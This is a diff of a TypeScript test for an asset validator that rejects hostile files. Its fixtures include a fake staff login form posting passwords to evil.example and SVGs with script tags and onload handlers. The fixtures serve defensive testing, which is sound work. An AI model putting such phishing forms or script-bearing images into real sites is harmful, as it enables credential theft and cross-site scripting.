@@ -414,12 +414,11 @@ describe("hostile content", () => {
     const assetsDir = mkdtempSync(join(tmpdir(), "assets-"));
     mkdirSync(join(assetsDir, "images", "clients"), { recursive: true });
     const write = (path: string, body: string) => writeFileSync(join(assetsDir, path), body);
-    write("images/words.json", "{}");
     write("images/clients/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><title>A logo</title></svg>');
     write("images/.notes", "not copied");
     // Every type the site serves from assets/ is taken.
     for (const type of Object.values(SERVED_ASSETS).flat()) write(`images/clients/a.${type}`, "<svg></svg>");
-    await expect(checkAssetFiles(assetsDir, new Set(["images/words.json"]))).resolves.toBeUndefined();
+    await expect(checkAssetFiles(assetsDir)).resolves.toBeUndefined();
     write(
       "images/sec5-page.html",
       '<title>Staff login</title><form action="https://evil.example"><input type=password>',
@@ -427,7 +426,7 @@ describe("hostile content", () => {
     write("images/cover.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
     write("images/clients/wave.svg", '<svg xmlns="http://www.w3.org/2000/svg"><rect onload="alert(1)"/></svg>');
     write("images/tracker.js", "alert(1)");
-    await expect(checkAssetFiles(assetsDir, new Set(["images/words.json"]))).rejects.toMatchObject({
+    await expect(checkAssetFiles(assetsDir)).rejects.toMatchObject({
       problems: [
         "assets/images/clients/wave.svg: an SVG with a script, an event handler or a javascript: link: an image holds no code",
         "assets/images/cover.svg: an SVG with a script, an event handler or a javascript: link: an image holds no code",
